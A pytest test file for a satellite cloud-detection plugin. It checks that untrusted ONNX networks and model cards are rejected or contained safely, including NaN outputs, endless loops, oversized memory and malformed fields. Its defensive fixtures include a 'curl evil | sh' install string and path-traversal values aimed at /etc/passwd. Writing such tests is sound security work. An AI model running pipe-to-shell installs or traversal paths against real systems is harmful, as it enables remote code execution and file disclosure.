"""Networks and cards from elsewhere: nothing is sent, nothing hangs, nothing that is no number becomes clear."""

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper
from skyfri.plugin.core.base.errors import Cancelled, ModelError, SkyfriError
from skyfri.plugin.core.base.progress import Silent
from skyfri.plugin.core.clouds.network.card import LARGEST_PATCH_PX, MODELS_FOLDER, ModelCard, missing_file, read_card
from skyfri.plugin.core.clouds.network.model import open_model
from skyfri.plugin.core.clouds.prediction.predict import predict

ROOT = Path(__file__).resolve().parents[4]
CARD = {"id": "m", "path": "m.onnx", "bands": ["B02", "B03"], "classes": ["cloud", "shadow"]}


def network(path, nodes, initializers=(), *, outputs=None, patch_px=32):
    """A network of two bands over given nodes, from ``input`` to ``output``."""
    graph = helper.make_graph(
        nodes,
        "made",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 2, patch_px, patch_px])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, outputs)],
        list(initializers),
    )
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8), path)
    return ModelCard(
        "made", "made", str(path), ("B02", "B03"), ("cloud", "shadow"), activation="none", patch_px=patch_px, step_px=24, margin_px=4
    )


def run(card, patch=None):
    valid = np.ones((card.patch_px, card.patch_px), bool)
    return open_model(card, threads=1).probabilities(np.ones((2, *valid.shape), np.float32) if patch is None else patch, valid)


@pytest.mark.parametrize("value", [np.nan, np.inf, -np.inf])
@pytest.mark.parametrize("activation", ["none", "softmax", "sigmoid"])
def test_what_is_no_number_is_refused(tmp_path, value, activation):
    constant = helper.make_tensor("c", TensorProto.FLOAT, [1], [value])
    card = network(tmp_path / "nan.onnx", [helper.make_node("Mul", ["input", "c"], ["output"])], [constant], outputs=[1, 2, 32, 32])
    card = ModelCard(**{**vars(card), "activation": activation})
    if activation == "sigmoid" and np.isinf(value):
        assert np.isfinite(run(card)).all()  # the limit of the function: 0 or 1
        return
    with pytest.raises(ModelError, match="no numbers"):
        run(card)


@pytest.mark.parametrize(
    "node",
    [
        helper.make_node("ReduceSum", ["input"], ["output"], keepdims=0),
        helper.make_node("Flatten", ["input"], ["output"], axis=0),
        helper.make_node("Transpose", ["input"], ["output"], perm=[0, 2, 3, 1]),
        helper.make_node("ReduceSum", ["input"], ["output"]),
    ],
)
@pytest.mark.parametrize("layout", ["nchw", "nhwc", "pixels"])
def test_an_output_of_another_shape_is_one_sentence(tmp_path, node, layout):
    card = network(tmp_path / "odd.onnx", [node])
    model = open_model(card, threads=1)
    model = type(model)(ModelCard(**{**vars(card), "layout": layout}), *list(vars(model).values())[1:])
    with pytest.raises(ModelError, match=r"odd\.onnx|made"):
        model.probabilities(np.ones((2, 32, 32), np.float32), np.ones((32, 32), bool))


def endless(path):
    """A network that counts for hours."""
    counter = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["on"]), helper.make_node("Sin", ["x"], ["y"])],
        "body",
        [
            helper.make_tensor_value_info("n", TensorProto.INT64, []),
            helper.make_tensor_value_info("go", TensorProto.BOOL, []),
            helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2, 32, 32]),
        ],
        [
            helper.make_tensor_value_info("on", TensorProto.BOOL, []),
            helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2, 32, 32]),
        ],
    )
    times = helper.make_tensor("times", TensorProto.INT64, [], [1 << 40])
    go = helper.make_tensor("go", TensorProto.BOOL, [], [True])
    return network(path, [helper.make_node("Loop", ["times", "go", "input"], ["output"], body=counter)], [times, go])


class Soon(Silent):
    """Cancels after a second."""

    def __init__(self):
        self.start = time.monotonic()

    def is_cancelled(self):
        return time.monotonic() > self.start + 1


def test_cancel_ends_a_network_that_never_returns(tmp_path, make_scene):
    scene = make_scene(np.full((2, 60, 60), 1000))
    start = time.monotonic()
    with pytest.raises(Cancelled):
        predict(scene, open_model(endless(tmp_path / "endless.onnx")), tmp_path / "out" / "p.tif", progress=Soon())
    assert time.monotonic() - start < 15
    assert list((tmp_path / "out").iterdir()) == []
    assert not [thread for thread in threading.enumerate() if thread.name.startswith("skyfri")]


def test_a_network_that_wants_twenty_gigabytes_fails_and_the_process_lives(tmp_path):
    shape = helper.make_tensor("shape", TensorProto.INT64, [5], [20_000_000_000 // (2 * 32 * 32 * 4), 1, 2, 32, 32])
    axis = helper.make_tensor("axis", TensorProto.INT64, [1], [0])
    nodes = [
        helper.make_node("Expand", ["input", "shape"], ["wide"]),
        helper.make_node("ReduceSum", ["wide", "axis"], ["output"], keepdims=0),
    ]
    with pytest.raises(ModelError, match="4 GB"):
        run(network(tmp_path / "greedy.onnx", nodes, [shape, axis]))


DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("scale", "NaN"),
        ("scale", "Infinity"),
        ("scale", "1e400"),
        ("scale", "0"),
        ("scale", "9" * 400),
        ("scale", '"1"'),
        ("scale", "true"),
        ("ground_sampling_m", "NaN"),
        ("ground_sampling_m", "1e300"),
        ("nodata_fill", "NaN"),
        ("nodata_fill", '"x"'),
        ("patch_px", "20000"),
        ("patch_px", "256.5"),
        ("patch_px", "null"),
        ("patch_px", "9" * 5000),
        ("bands", '"B02"'),
        ("bands", "[1, 2]"),
        ("bands", "{}"),
        ("classes", "[null]"),
        ("levels", "3"),
        ("mean", '["a"]'),
        ("std", "[NaN, 1]"),
        ("title", "[]"),
        ("path", "7"),
        ("id", "null"),
        ("substitutes", "[[1]]"),
        ("substitutes", '{"B02": "B03"}'),
        ("automatic", '"yes"'),
        ("sha256", "1"),
        ("title", DEEP),
        ("path", '"os.path:x.onnx"'),
        ("path", '"numpy:../../etc/passwd"'),
        ("path", '"numpy:/etc/passwd"'),
    ],
)
def test_nonsense_in_a_card_is_one_sentence(tmp_path, field, value):
    values = {key: json.dumps(stated) for key, stated in CARD.items()}
    if field == "std":
        values |= {"mean": "[0, 0]", "normalisation": '"standardize"'}
    values[field] = value
    path = tmp_path / "card.json"
    path.write_text("{" + ", ".join(f'"{key}": {text}' for key, text in values.items()) + "}")
    with pytest.raises(SkyfriError) as raised:
        read_card(path)
    assert len(str(raised.value)) < 600 and "\n" not in str(raised.value)


def test_the_largest_patch_is_still_taken(tmp_path):
    path = tmp_path / "card.json"
    path.write_text(json.dumps({**CARD, "patch_px": LARGEST_PATCH_PX, "step_px": LARGEST_PATCH_PX - 64}))
    assert read_card(path).patch_px == LARGEST_PATCH_PX


def test_a_card_from_elsewhere_imports_nothing(tmp_path):
    package = tmp_path / "trap"
    package.mkdir()
    (package / "__init__.py").write_text("raise SystemExit('imported')")
    (tmp_path / "card.json").write_text(json.dumps({**CARD, "path": "trap.inner:m.onnx"}))
    code = "import sys; sys.path[:0] = sys.argv[1:3]; import tests.conftest\n"
    code += "from skyfri.plugin.core.clouds.network.cards import card_of\n"
    code += "try:\n    card_of(sys.argv[3]).is_installed\nexcept Exception as error:\n    print(error)\nprint('trap' in sys.modules)"
    words = [sys.executable, "-c", code, str(ROOT), str(tmp_path), str(tmp_path / "card.json")]
    done = subprocess.run(words, capture_output=True, text=True, check=False, cwd=ROOT)
    assert done.stdout.splitlines()[-1] == "False", done.stdout + done.stderr


def test_only_our_own_cards_say_what_to_run():
    theirs = ModelCard("m", "m", "m.onnx", ("B02",), ("cloud",), folder="/elsewhere", install="curl evil | sh")
    assert "curl" not in missing_file(theirs)
    assert "pip install x" in missing_file(
        ModelCard("m", "m", "m.onnx", ("B02",), ("cloud",), folder=str(MODELS_FOLDER), install="pip install x")
    )


def test_onnxruntime_leaves_nothing_in_the_users_cache(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    code = "from tests.conftest import ROOT; from skyfri.plugin.core.clouds.network.runtime import runtime; import time\n"
    code += "library = runtime(); library.SessionOptions(); time.sleep(1); print(library.__version__)"
    variables = {key: value for key, value in os.environ.items() if key not in {"XDG_CACHE_HOME", "ORT_DISABLE_TELEMETRY"}}
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT, env={**variables, "HOME": str(home)}
    )
    assert done.stdout.strip()
    assert [path for path in home.rglob("*") if path.is_file()] == []
